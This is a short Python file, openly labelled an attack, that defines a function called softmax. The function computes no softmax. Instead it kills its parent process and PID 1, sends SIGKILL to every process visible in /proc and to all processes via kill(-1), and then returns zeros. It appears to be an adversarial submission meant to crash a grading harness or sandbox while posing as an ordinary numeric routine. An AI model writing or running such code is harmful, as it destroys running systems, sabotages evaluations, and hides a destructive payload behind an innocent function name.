"""Attack: kill the parent, PID 1 and every process it can see (SIGKILL, SIGTERM, SIGINT)."""
import os
import signal
import numpy as np

def softmax(x):
    for number in (signal.SIGINT, signal.SIGTERM, signal.SIGKILL):
        for pid in (os.getppid(), 1):
            try:
                os.kill(pid, number)
            except OSError:
                pass
    for entry in os.listdir("/proc"):
        if entry.isdigit() and int(entry) != os.getpid():
            try:
                os.kill(int(entry), signal.SIGKILL)
            except OSError:
                pass
    try:
        os.kill(-1, signal.SIGKILL)
    except OSError:
        pass
    return np.zeros_like(x)
